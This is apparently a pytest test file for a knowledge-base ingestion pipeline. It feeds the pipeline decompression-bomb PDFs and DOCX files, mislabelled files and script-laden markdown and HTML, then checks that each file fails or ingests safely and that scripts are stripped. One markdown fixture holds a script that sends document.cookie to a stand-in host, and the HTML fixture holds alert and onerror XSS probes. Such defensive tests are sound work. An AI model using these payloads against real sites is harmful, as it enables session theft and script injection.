"""Hostile files in one batch beside a good one: each ends in bounded time and memory (the parser process's caps)
with a clear per-file outcome, and the batch goes on. Times and outcomes are printed for the closing note's table;
nothing here passes or fails on a time."""

from __future__ import annotations

import shutil
import time

import hostile_files as hf
import pdf_factory as pf
import pytest
from conftest import SAMPLES

from assistant.kb import KnowledgeBase

pytestmark = pytest.mark.slow


def test_hostile_files_end_with_a_clear_outcome_and_the_batch_goes_on(make_ingestor, settings, tmp_path):
    d = tmp_path / "inbox"
    d.mkdir()
    pf.text_pdf(d / "good.pdf", ["Forklifts must not exceed 10 km/h inside the warehouse."])
    hf.pdf_bomb(d / "bomb.pdf")
    hf.nested_pdf(d / "nested.pdf")
    hf.many_pages_pdf(d / "ten-thousand-pages.pdf")
    hf.huge_image_pdf(d / "huge-image.pdf")
    hf.docx_bomb(d / "bomb.docx", SAMPLES / "onboarding-handbook.docx")
    hf.docx_external(d / "external-links.docx")
    shutil.copy(SAMPLES / "onboarding-handbook.docx", d / "really-a-docx.pdf")
    shutil.copy(SAMPLES / "it-helpdesk-guide.pdf", d / "really-a-pdf.docx")
    (d / "script.md").write_text(
        "# Visitors\n\n<script>fetch('http://evil.invalid/'+document.cookie)</script>\n\n"
        "Visitors sign in at reception.\n",
        encoding="utf-8",
    )
    (d / "script.html").write_text(
        "<html><body><h1>Parking</h1><script>alert(1)</script><p>Lot A is for visitors."
        "</p><img src=x onerror=alert(2)></body></html>",
        encoding="utf-8",
    )
    sizes = {p.name: p.stat().st_size for p in d.iterdir()}
    assert max(sizes.values()) < 20 * 2**20, sizes  # small on disk: the danger is what they inflate to

    settings.ingest.file_memory_mb = 1024
    settings.ingest.file_timeout_s = 120
    t0 = time.monotonic()
    report = make_ingestor().run([d])
    seconds = time.monotonic() - t0
    out = {o.path.rsplit("/", 1)[-1]: o for o in report.outcomes}
    for name, o in sorted(out.items()):
        print(
            f"| {name} | {sizes[name] // 1024} KiB | {o.status} | {o.reason or ', '.join(o.warnings)[:80]} | "
            f"{o.seconds:.1f} s |"
        )
    print(f"batch: {seconds:.1f} s")

    assert set(out) == set(sizes)  # every file has its outcome
    assert out["good.pdf"].status == "ingested"
    for name in ("bomb.pdf", "bomb.docx", "nested.pdf", "ten-thousand-pages.pdf", "huge-image.pdf"):
        o = out[name]
        assert o.status == "failed" and o.reason, (name, o)
    assert "too large" in out["bomb.docx"].reason
    assert out["external-links.docx"].status == "ingested"  # its remote link and image are never fetched
    assert out["really-a-docx.pdf"].status == "failed" and "wrong extension" in out["really-a-docx.pdf"].reason
    assert out["really-a-pdf.docx"].status == "failed" and "is a PDF" in out["really-a-pdf.docx"].reason
    assert out["script.md"].status == "ingested" and out["script.html"].status == "ingested"

    kb = KnowledgeBase.open(settings.paths.kb_dir)
    assert kb.verify() == []
    texts = " ".join(c["text"] for doc in kb.documents() for c in kb.chunks_of(doc.id))
    assert "alert(" not in texts and "onerror" not in texts  # HTML scripts are dropped, never kept as markup
    assert "Lot A is for visitors" in texts and "red badge" in texts
    kb.close()
